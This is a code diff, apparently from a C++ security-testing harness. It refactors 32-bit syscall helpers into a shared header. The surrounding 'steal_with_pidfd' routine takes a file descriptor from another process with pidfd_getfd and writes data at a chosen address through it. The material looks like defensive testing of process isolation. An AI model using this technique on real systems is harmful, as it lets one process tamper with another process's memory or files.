@@ -31,6 +31,7 @@
 #include <thread>
 
 #include "common.h"
+#include "ia32.h"
 
 namespace {
 
@@ -48,28 +49,9 @@ void seek_to(int fd, uint64_t addr) {
   if (lseek(fd, static_cast<off_t>(addr), SEEK_SET) == static_cast<off_t>(-1)) attack::die("lseek");
 }
 
-// pidfd_getfd(2) (438 in every ABI), through int 0x80 when `ia32`.
-int take_fd(int pidfd, int remote_fd, bool ia32) {
-  if (!ia32) return static_cast<int>(syscall(SYS_pidfd_getfd, pidfd, remote_fd, 0));
-  long ret;
-  __asm__ volatile("int $0x80"
-                   : "=a"(ret)
-                   : "a"(438L), "b"(static_cast<long>(pidfd)), "c"(static_cast<long>(remote_fd)),
-                     "d"(0L)
-                   : "r8", "r9", "r10", "r11", "memory");
-  if (ret < 0) errno = static_cast<int>(-ret);
-  return ret < 0 ? -1 : static_cast<int>(ret);
-}
-
 long write_ia32(int fd, const void* buf, std::size_t n) {
-  long ret;
-  __asm__ volatile("int $0x80"
-                   : "=a"(ret)
-                   : "a"(4L), "b"(static_cast<long>(fd)),
-                     "c"(static_cast<long>(reinterpret_cast<uintptr_t>(buf))),
-                     "d"(static_cast<long>(n))
-                   : "r8", "r9", "r10", "r11", "memory");
-  return ret;
+  return attack::ia32_syscall(4, fd, static_cast<long>(reinterpret_cast<uintptr_t>(buf)),
+                              static_cast<long>(n));
 }
 
 // Writes `data` at plan.addr through `fd` with the call asked for; dies unless all was written.
@@ -184,7 +166,7 @@ Outcome steal_with_pidfd(const Plan& plan) {
   if (read(to_parent[0], &remote_fd, sizeof(remote_fd)) != sizeof(remote_fd)) attack::die("read fd number");
   int pidfd = static_cast<int>(syscall(SYS_pidfd_open, opener, 0));
   if (pidfd < 0) attack::die("pidfd_open");
-  int fd = take_fd(pidfd, remote_fd, plan.ia32);
+  int fd = attack::pidfd_getfd_call(pidfd, remote_fd, plan.ia32);
   if (fd < 0) attack::die("pidfd_getfd");
   write_through(fd, plan, read_back(fd, plan));
   if (write(to_child[1], "x", 1) != 1) attack::die("release the opener");
